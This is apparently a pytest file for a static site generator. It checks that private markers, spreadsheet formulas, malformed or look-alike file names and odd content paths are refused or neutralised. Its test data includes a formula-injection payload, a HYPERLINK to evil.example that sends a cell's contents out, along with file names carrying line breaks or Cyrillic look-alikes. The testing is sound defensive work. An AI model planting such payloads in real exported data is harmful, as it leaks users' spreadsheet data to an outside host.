"""Content an editor did not mean, or someone meant harm with: private markers in
front-matter, spreadsheet formulas in actions, file names with line breaks or look-alike
letters, and content folders reached through ``..``, absolute paths or hidden folders."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from sitegen.data import spreadsheet_safe
from tests.helpers import SMALL_TODAY, copy_site, run_cli, tree_digest

MEETING = "meetings/2024-01-10-steering-group.md"


def _edit(content: Path, relative: str, old: str, new: str) -> None:
    path = content / relative
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def _check_json(content: Path) -> list[dict[str, object]]:
    result = run_cli("check", "--content", content, "--today", SMALL_TODAY, "--format", "json")
    assert result.code == 1, result.out
    problems: list[dict[str, object]] = json.loads(result.out)["problems"]
    return [p for p in problems if p["severity"] == "error"]


# ---------------------------------------------------------------------- private markers


@pytest.mark.parametrize(
    ("old", "new", "field", "line"),
    [
        (
            "summary: The group agreed its plan for the year.",
            "summary: |\n  The plan.\n  ::: private\n  Bob is leaving.\n  :::",
            "summary",
            10,
        ),
        (
            "  - Involvement is always paid.",
            "  - Involvement is always paid.\n  - >\n    Also agreed.\n    :::",
            "decisions[2]",
            14,
        ),
        (
            "summary: The group agreed its plan for the year.",
            'summary: "Plan agreed. ::: private the budget :::"',
            "summary",
            10,
        ),
        (
            "    text: Book a venue.",
            "    text: 'Book a venue. ::: PRIVATE (the usual one)'",
            "actions[5].text",
            38,
        ),
    ],
)
def test_a_private_marker_in_front_matter_is_an_error_naming_the_field(
    tmp_path: Path, old: str, new: str, field: str, line: int
) -> None:
    content = copy_site(tmp_path)
    _edit(content, MEETING, old, new)
    errors = _check_json(content)
    assert [(e["line"], e["field"]) for e in errors] == [(line, field)]
    assert str(errors[0]["path"]).endswith(MEETING)
    assert "only the body (below the closing '---') can withhold text" in str(errors[0]["message"])


def test_a_group_purpose_with_private_text_is_never_published(tmp_path: Path) -> None:
    content = copy_site(tmp_path)
    _edit(
        content,
        "groups/advice-group.md",
        "purpose: Would advise on priorities.",
        "purpose: >\n  Would advise.\n  ::: private\n  kumquat\n  :::",
    )
    output = tmp_path / "output"
    result = run_cli("build", "--content", content, "--output", output, "--today", SMALL_TODAY)
    assert result.code == 1
    assert "groups/advice-group.md:3: purpose: holds '::: private'" in result.err
    assert not output.exists()


def test_colons_in_ordinary_front_matter_text_are_fine(tmp_path: Path) -> None:
    content = copy_site(tmp_path)
    _edit(
        content,
        MEETING,
        "summary: The group agreed its plan for the year.",
        "summary: 'Agreed: a plan; times 14:00::15:00, see a::b'",
    )
    result = run_cli("check", "--content", content, "--today", SMALL_TODAY)
    assert result.code == 0, result.out


# ---------------------------------------------------------------------- open data


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "'quoted",
]


def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_json_keeps_the_text(
    tmp_path: Path,
) -> None:
    content = copy_site(tmp_path)
    actions = "".join(
        f"  - id: f{n}\n    text: {json.dumps(text)}\n    owners: [bob-jones]\n    due: asap\n"
        for n, text in enumerate(FORMULAS, start=1)
    )
    _edit(content, MEETING, "actions:\n", "actions:\n" + actions)
    _edit(content, MEETING, "    due_note: with the notes", "    due_note: '=1+2'")
    output = tmp_path / "output"
    result = run_cli(
        "build", "--content", content, "--output", output, "--today", SMALL_TODAY, "--no-search"
    )
    assert result.code == 0, result.err

    rows = list(csv.DictReader(io.StringIO((output / "data/actions.csv").read_text())))
    cells = {row["id"]: row["text"] for row in rows}
    assert [cells[f"f{n}"] for n in range(1, len(FORMULAS) + 1)] == ["'" + t for t in FORMULAS]
    assert cells["a1"] == "Write the offer document."
    assert {row["id"]: row["due_note"] for row in rows}["a2"] == "'=1+2"
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row

    exact = json.loads((output / "data/actions.json").read_text())["actions"]
    texts = {action["id"]: action["text"] for action in exact}
    assert [texts[f"f{n}"] for n in range(1, len(FORMULAS) + 1)] == FORMULAS
    page = (output / "data/index.html").read_text()
    assert 'id="spreadsheets"' in page and "starts with an apostrophe" in page


# ---------------------------------------------------------------------- file names


def test_a_file_name_ending_in_a_line_break_is_refused_on_one_line(tmp_path: Path) -> None:
    content = copy_site(tmp_path)
    (content / "news" / "evil\n.md").write_text(
        (content / "news" / "launch.md").read_text(encoding="utf-8"), encoding="utf-8"
    )
    output = tmp_path / "output"
    result = run_cli("build", "--content", content, "--output", output, "--today", SMALL_TODAY)
    assert result.code == 1
    lines = result.err.splitlines()
    assert any(
        line.endswith(
            "news/evil\\n.md:1: 'evil\\n.md' is not a usable file name: use lower-case "
            "letters, digits and hyphens, e.g. 'evil.md'"
        )
        for line in lines
    ), result.err
    assert not output.exists()


@pytest.mark.parametrize(
    ("name", "suggested"),
    [
        ("caf\u00e9.md", "cafe.md"),
        ("\u0430bout.md", "about.md"),  # a Cyrillic a
        ("\u0421\u041e\u0421ount.md", "sosount.md"),  # Cyrillic capitals
        ("Annual Report 2024.md", "annual-report-2024.md"),
        ("--.md", "name.md"),
        ("news_\u00fcber_alles.md", "news-uber-alles.md"),
    ],
)
def test_every_bad_file_name_gets_a_line_and_a_valid_suggestion(
    tmp_path: Path, name: str, suggested: str
) -> None:
    content = copy_site(tmp_path)
    (content / "news" / name).write_text(
        (content / "news" / "launch.md").read_text(encoding="utf-8"), encoding="utf-8"
    )
    errors = _check_json(content)
    assert [(e["line"], e["message"]) for e in errors] == [
        (
            1,
            f"'{name}' is not a usable file name: use lower-case letters, digits and "
            f"hyphens, e.g. '{suggested}'",
        )
    ]
    (content / "news" / name).rename(content / "news" / suggested)
    if suggested != "name.md":
        assert run_cli("check", "--content", content, "--today", SMALL_TODAY).code == 0


def test_a_published_file_whose_name_holds_a_line_break_is_refused(tmp_path: Path) -> None:
    content = copy_site(tmp_path)
    (content / "files").mkdir()
    (content / "files" / "minutes\n.pdf").write_bytes(b"%PDF-1.4\n")
    errors = _check_json(content)
    assert [e["message"] for e in errors] == [
        "cannot be published: the name 'minutes\n.pdf' holds a line break or another control "
        "character; rename it, e.g. 'minutes.pdf'"
    ]


# ---------------------------------------------------------------------- content folders


def _site_with_files(root: Path) -> Path:
    content = copy_site(root)
    files = content / "files"
    (files / "docs").mkdir(parents=True)
    (files / "report.pdf").write_bytes(b"%PDF-1.4 report\n")
    (files / "docs" / "notes.txt").write_text("notes\n")
    (files / ".hidden").mkdir()
    (files / ".hidden" / "secret.txt").write_text("secret\n")
    (files / ".DS_Store").write_bytes(b"\0")
    return content


def _built(cwd: Path, content: str | Path, output: Path) -> dict[str, str]:
    result = run_cli(
        "build", "--content", content, "--output", output, "--today", SMALL_TODAY,
        "--no-search", cwd=cwd,
    )  # fmt: skip
    assert result.code == 0, result.err
    return tree_digest(output)


def test_content_folders_reached_any_way_publish_the_same_site(tmp_path: Path) -> None:
    plain = _site_with_files(tmp_path / "plain")
    hidden = _site_with_files(tmp_path / ".cache" / "site")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    expected = _built(plain.parent, "content", tmp_path / "out-plain")
    assert {"files/report.pdf", "files/docs/notes.txt"} <= set(expected)
    assert not any(".hidden" in path or ".DS_Store" in path for path in expected)

    ways = {
        "through ..": (elsewhere, Path("..") / "plain" / "content"),
        "absolute": (elsewhere, plain.resolve()),
        "under a hidden folder": (tmp_path, Path(".cache") / "site" / "content"),
        "under a hidden folder, absolute": (elsewhere, hidden.resolve()),
        "through .. into a hidden folder": (elsewhere, Path("..") / ".cache" / "site" / "content"),
    }
    for number, (way, (cwd, content)) in enumerate(ways.items()):
        assert _built(cwd, content, tmp_path / f"out-{number}") == expected, way


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-", "'-"),
        ("@home", "'@home"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'already", "''already"),
        ("Plain text", "Plain text"),
        ("a=b", "a=b"),
        ("", ""),
        (3, 3),
    ],
)
def test_spreadsheet_safe_cells(cell: object, written: object) -> None:
    assert spreadsheet_safe(cell) == written
